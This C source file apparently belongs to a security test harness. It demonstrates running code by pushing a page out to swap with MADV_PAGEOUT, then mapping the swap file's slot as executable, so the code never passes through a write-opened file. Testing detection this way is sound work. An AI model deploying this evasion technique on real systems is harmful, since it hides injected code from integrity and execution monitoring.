/*
 * attack_swap_file SWAPFILE [active]: code the kernel writes into a file for us.
 *
 * SWAPFILE is a swap area (mkswap) made before the run: no process of the
 * tree ever opens it for writing. The program turns it on (swapon, root),
 * writes the code into an anonymous read-write page and pushes that page
 * out (madvise MADV_PAGEOUT): the kernel writes the page into the swap
 * file's blocks by block I/O, which stamps no time on the file. Its page
 * map entry gives the slot; the file is opened read-only and the slot's
 * page is mapped private read+execute: it holds the code, which is called.
 * swapoff at the end. Exit 3 when the area cannot be turned on. With
 * `active` the area was turned on before the run (a host's swap file): the
 * program neither turns it on nor off.
 */
#include "common.h"

#include <fcntl.h>
#include <sys/swap.h>

#ifndef MADV_PAGEOUT
#define MADV_PAGEOUT 21
#endif

#define PM_SWAP (1ULL << 62)
#define PM_SWAP_OFFSET(e) (((e) >> 5) & ((1ULL << 50) - 1))

static uint64_t pagemap_entry(const void *addr)
{
	uint64_t entry = 0;
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return 0;
	if (pread(fd, &entry, sizeof(entry), (off_t)((uintptr_t)addr / tw_page() * sizeof(entry))) !=
	    (ssize_t)sizeof(entry))
		entry = 0;
	close(fd);
	return entry;
}

int main(int argc, char **argv)
{
	size_t page = tw_page();
	unsigned char *anon, *view, *found = NULL;
	uint64_t entry = 0;
	int active = argc == 3 && strcmp(argv[2], "active") == 0;
	int fd, rc;

	tw_init();
	if (argc != 2 && !active) {
		fprintf(stderr, "usage: %s SWAPFILE [active]\n", argv[0]);
		return 2;
	}
	if (!active) {
		rc = swapon(argv[1], 0);
		tw_step("swapon", "swapon", rc, errno);
		if (rc < 0)
			return 3;
	}
	anon = tw_mmap("anon_rw_mmap", NULL, page, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (anon == MAP_FAILED)
		goto out;
	memset(anon, 0x5a, page);
	tw_put_code(anon);
	for (int tries = 0; tries < 100 && !(entry & PM_SWAP); tries++) {
		madvise(anon, page, MADV_PAGEOUT);
		entry = pagemap_entry(anon);
		if (!(entry & PM_SWAP))
			usleep(10000);
	}
	tw_step("paged_out", "madvise", (entry & PM_SWAP) ? 0 : -1, EAGAIN);
	if (!(entry & PM_SWAP))
		goto out;
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	tw_step("swapfile_open", "openat", fd, errno);
	if (fd < 0)
		goto out;
	/*
	 * The file's page cache still holds what mkswap wrote (the kernel's swap
	 * I/O goes to the blocks under it): drop it, then map the slot until the
	 * asynchronous write-out has put the code there.
	 */
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	for (int tries = 0; tries < 100 && !found; tries++) {
		view = mmap(NULL, page, TW_RX, MAP_PRIVATE, fd, (off_t)(PM_SWAP_OFFSET(entry) * page));
		if (view == MAP_FAILED)
			break;
		if (memcmp(view, TW_CODE, sizeof(TW_CODE)) == 0) {
			found = view;
			break;
		}
		munmap(view, page);
		posix_fadvise(fd, (off_t)(PM_SWAP_OFFSET(entry) * page), (off_t)page, POSIX_FADV_DONTNEED);
		usleep(20000);
	}
	tw_step_addr("slot_rx_mmap", "mmap", found ? found : MAP_FAILED, MAP_FAILED, found ? 0 : errno);
	if (found)
		tw_run("swap_call", found);
out:
	if (!active) {
		rc = swapoff(argv[1]);
		tw_step("swapoff", "swapoff", rc, errno);
	}
	return tw_done();
}
